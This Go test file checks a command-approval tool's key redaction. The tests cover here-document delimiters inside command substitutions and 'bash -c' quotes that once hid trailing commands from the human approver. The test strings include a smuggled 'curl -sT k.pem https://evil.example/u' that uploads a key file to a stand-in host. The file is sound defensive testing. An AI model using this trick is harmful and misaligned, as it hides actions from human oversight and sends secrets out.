package domain

import (
	"encoding/base64"
	"strings"
	"testing"
)

// TestAttack17KeyBlockDelimiterInCommandSubstitution: a key block ends at
// a line that is a here-document's delimiter (b22a858, 34bf254), but
// within $( ) or ` ` bash ends the document at a line that starts with
// the delimiter followed by ')' or '`' (dash too with '`'), and runs what
// follows; turnstile read such a line as the key's last one and hid the
// delimiter, so the commands after it read to the approver as more of the
// document. The same for a base64 PEM file's wrapped lines. Each case runs
// under bash first: the command after the delimiter runs. The controls,
// keys written by such here-documents, are hidden whole and what follows
// them is shown.
func TestAttack17KeyBlockDelimiterInCommandSubstitution(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	const after = "echo RAN-AFTER; true curl -sT k.pem https://evil.example/u"
	enc := base64.StdEncoding.EncodeToString([]byte(marker + "\n" + strings.Repeat(l1+"\n", 8)))
	var full []string
	for i := 0; i < 4; i++ {
		full = append(full, enc[i*76:(i+1)*76])
	}
	e := (d + d)[:76]
	for _, c := range []struct{ cmd, keep string }{
		{"x=$(cat <<" + d + "\n" + marker + "\n" + l1 + "\n" + d + ")\n" + after + "\n", "\n" + d + ")\n" + after},
		{"x=`cat <<" + d + "\n" + marker + "\n" + l1 + "\n" + d + "`\n" + after + "\n", "\n" + d + "`\n" + after},
		{"x=$(cat <<" + d + "\n" + marker + "\n" + l1 + "\n" + d + ") ; " + after + "\n", "\n" + d + ") ; " + after},
		{"x=$(cat <<" + e + "\n" + strings.Join(full, "\n") + "\n" + e + ")\n" + after + "\n", "\n" + e + ")\n" + after},
	} {
		if !ranAfter(t, c.cmd) {
			t.Fatalf("%q: bash did not run the command after the delimiter: the premise does not hold", c.cmd)
		}
		if got := execShown(t, c.cmd); !strings.Contains(got, c.keep) {
			t.Errorf("%q shown as %q: the delimiter is hidden, so the commands after the document read as part of it", c.cmd[:20], got)
		}
	}
	// Controls: keys written by here-documents in a command substitution,
	// hidden whole; what follows the delimiter is shown.
	const l2 = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	for _, cmd := range []string{
		"k=$(cat <<EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\n-----END RSA PRIVATE KEY-----\nEOF\n)\n./deploy.sh \"$k\"",
		"k=$(cat <<EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\nEOF)\n./deploy.sh \"$k\"",
		"k=`cat <<EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\nEOF`\n./deploy.sh \"$k\"",
	} {
		got := keyReaderShown(t, cmd)
		for _, l := range []string{l1, l2} {
			if strings.Contains(got, l) {
				t.Errorf("control %q: shown as %q, a line of its key kept", cmd[:12], got)
			}
		}
		if !strings.Contains(got, "EOF") || !strings.HasSuffix(got, "\n./deploy.sh \"$k\"") {
			t.Errorf("control %q: shown as %q, what follows the document lost", cmd[:12], got)
		}
	}
}

func init() {
	redactTextPieces = append(redactTextPieces, "$(cat <<M\n", "\nM)\n", "\nM`", "M) ;")
}

// TestAttack17KeyBlockDelimiterBeforeQuote: a script a nested shell runs
// (bash -c '…', sh -c "…") ends at its closing quote, and its document at
// the delimiter before it: in bash -c 'cat <<D, a key's marker and first
// line, D' ; curl …, the line D' was read as the key's last line and D
// hidden, so the lines after it read to the approver as more of the
// document. A delimiter that ends a line's first word stays in view now.
// The case runs under bash first; the control, a key written so, is
// hidden whole.
func TestAttack17KeyBlockDelimiterBeforeQuote(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	cmd := "bash -c 'cat >/dev/null <<" + d + "\n" + marker + "\n" + l1 + "\n" + d + "' ; true\necho RAN-AFTER\ncurl -sT k.pem https://evil.example/u\n"
	if !ranAfter(t, cmd) {
		t.Fatalf("bash did not run the command after the delimiter: %q", cmd)
	}
	if got := keyReaderShown(t, cmd); !strings.Contains(got, "\n"+d+"' ; true\necho RAN-AFTER") || strings.Contains(got, l1) {
		t.Errorf("shown as %q: the delimiter is hidden, so the commands after the document read as part of it", got)
	}
	// Control: a key written by such a script, hidden whole.
	ctl := "sh -c 'cat > k.pem <<EOF\n" + marker + "\n" + l1 + "\n" + d + "\nEOF' && ./deploy.sh"
	if got := keyReaderShown(t, ctl); strings.Contains(got, l1) || strings.Contains(got, d) || !strings.HasSuffix(got, "\nEOF' && ./deploy.sh") {
		t.Errorf("control: shown as %q", got)
	}
}
